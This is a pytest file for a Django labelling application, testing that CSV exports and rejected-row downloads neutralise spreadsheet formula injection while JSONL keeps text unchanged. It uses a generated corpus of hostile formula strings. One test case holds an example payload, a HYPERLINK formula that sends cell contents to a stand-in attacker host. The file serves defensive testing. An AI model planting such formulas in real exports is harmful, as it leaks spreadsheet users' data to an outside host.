"""T57: CSV is for people and computes nothing; JSONL says what was said."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from annotation.curation import exporting
from annotation.models import Export
from catalogue.importing.meaning.inspecting import Origin
from catalogue.importing.meaning.presets import OWN
from catalogue.importing.running import Plan, run_here
from catalogue.models import Import, Rejection
from inference.knowledge.files import Rejected, rejected_csv
from jobs import leasing
from projects.models import Project
from relevance.spreadsheets import csv_line, plain_cell, safe_cell
from tests.conftest import ROOT, Cast
from tests.hostile.corpus import PASSED_OVER, formulas

STRINGS = formulas(1000)
COMPUTED = re.compile(r"[\s\u00a0\u3000\ufeff\u200b\u200e\u202e'\"“]*[=+\-@\t\r\n\x00＝＋－＠﹢﹣﹦﹫−]")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")) for cell in row]


def computed(found: Iterable[str]) -> list[str]:
    """Cells that a spreadsheet would take for a formula; an apostrophe of ours at the start says that it is none."""
    return [cell for cell in found if COMPUTED.match(cell) and not cell.startswith("'")]


def naive(rows: Iterable[Iterable[str]]) -> str:
    """Control: what the csv module alone makes of it."""
    file = io.StringIO()
    csv.writer(file).writerows(rows)
    return file.getvalue()


def test_there_are_a_thousand_different_strings() -> None:
    # 14 beginnings x 17 triggers x 6 rests = 1,428 combinations
    assert len(set(STRINGS)) == 1000 and {one[:2].strip() for one in STRINGS} and set(PASSED_OVER)


def test_the_labels_come_back_byte_for_byte_as_jsonl_and_compute_nothing_as_csv(
    project: Project, tmp_path: Path, figures: Callable[..., None]
) -> None:
    path = tmp_path / "formulas.jsonl"
    rows = [
        {"query": f"{text}mug", "item_id": f"{text}m{n}", "title": f"{text}.", "label": "L4"}
        for n, text in enumerate(STRINGS)
    ]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    run_here(project, "pairs", [path], plan=Plan(dict(OWN)), origin=Origin("=1+1", "@x", "+y"), scale=project.scale)
    export = exporting.request_export(project, "labels", None)
    token = leasing.claim(Export, export.pk)
    assert token is not None
    exporting.work(export.pk, token)
    export.refresh_from_db()
    with exporting.open_file(export, "labels.jsonl") as file:
        lines = [json.loads(line) for line in file.read().splitlines()]
    # Of a text, the spaces around it are stripped at the boundary.
    assert [line["title"] for line in lines] == [f"{text}.".strip() for text in STRINGS]
    assert [line["item_id"] for line in lines] == [f"{text}m{n}".strip() for n, text in enumerate(STRINGS)]
    with exporting.open_file(export, "labels.csv") as file:
        table = cells(file.read().decode())
    control = computed(cells(naive([line["query"], line["title"], line["item_id"]] for line in lines)))
    assert len(control) > 1000, "the strings would compute without us"
    assert computed(table) == []
    figures("T57 labels", strings=len(STRINGS), cells=len(table), computed=0, naive_control_computed=len(control))


@pytest.mark.parametrize("kind", ["import", "knowledge"])
def test_rejected_rows_compute_nothing(
    project: Project, cast: Cast, client_for: Callable[[Any], Client], kind: str, figures: Callable[..., None]
) -> None:
    said = [text.replace("\x00", "\ufffd") for text in STRINGS]
    if kind == "import":
        batch = Import.objects.create(project=project, kind="pairs", file_name="x.csv", confirmed=True)
        Rejection.objects.bulk_create(
            Rejection(batch=batch, row=n, field=text[:120], reason=text, raw=text) for n, text in enumerate(said)
        )
        answer = client_for(cast.lena).get(f"/p/shoes/imports/{batch.pk}/rejected.csv")
        text = b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]
    else:
        text = "".join(rejected_csv(Rejected(n, one, one, one) for n, one in enumerate(said)))
    table = cells(text)
    control = computed(cells(naive([one] for one in said)))
    assert computed(table) == [] and len(table) == 4 * (1 + len(STRINGS))
    assert len(control) > 500, "the strings would compute without us"
    figures(f"T57 rejected {kind}", cells=len(table), computed=0, naive_control_computed=len(control))


def test_every_csv_of_the_product_is_written_in_one_place() -> None:
    apps = (*settings.OUR_APPS, "database", "relevance", "lore_app")
    writers = [
        str(path.relative_to(ROOT))
        for app in apps
        for path in sorted((ROOT / app).rglob("*.py"))
        if "csv.writer" in path.read_text() or "DictWriter" in path.read_text()
    ]
    assert writers == ["relevance/spreadsheets.py"]


@pytest.mark.parametrize("sign", [";", "\t"])
@pytest.mark.parametrize(
    "text", ['foo{}=HYPERLINK("http://evil.example/?"&A1){}bar', "foo{} +1{}bar", "{}@x{}", "a{}'=1{}b"]
)
def test_no_formula_stands_behind_a_sign_at_which_a_spreadsheet_divides_a_line(sign: str, text: str) -> None:
    said = text.format(sign, sign)
    line = csv_line(["L4", said, "end"])
    assert computed(next(csv.reader([line], delimiter=sign))) == []
    assert plain_cell(next(csv.reader([line]))[1]) == said


@given(st.text(";\t'=+-@ ab\u200b\r\n\"", max_size=12))
def test_whatever_is_made_safe_comes_back(said: str) -> None:
    assert plain_cell(safe_cell(said)) == said
